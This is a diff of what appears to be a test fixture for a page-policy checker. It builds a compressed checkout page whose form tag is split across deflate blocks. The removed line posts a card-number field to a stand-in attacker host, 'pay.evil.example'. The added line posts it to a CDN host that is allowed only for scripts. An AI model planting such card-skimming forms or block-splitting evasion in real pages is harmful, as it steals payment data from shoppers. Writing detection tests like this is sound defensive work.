@@ -68,7 +68,9 @@ function storedDeflateSplittingTheFormTag(): Buffer {
     return Buffer.concat([header, data]);
   };
   const first = '<!DOCTYPE html><html><head><title>Checkout</title></head><body><!-- order summary -->'.padEnd(LENGTH - 3, ' ') + '<fo';
-  const second = 'rm action="https://pay.evil.example/collect" method="post"><input name="card-number"><button>Pay</button></form></body></html>';
+  // The host is one the policy names for scripts only: as a carried URL in the identity reading it is
+  // no unlisted destination (issue 17 class 4), as a form action it is a foreign one.
+  const second = 'rm action="https://cdn.shop.example/collect" method="post"><input name="card-number"><button>Pay</button></form></body></html>';
   return Buffer.concat([block(false, first), block(true, second)]);
 }
 
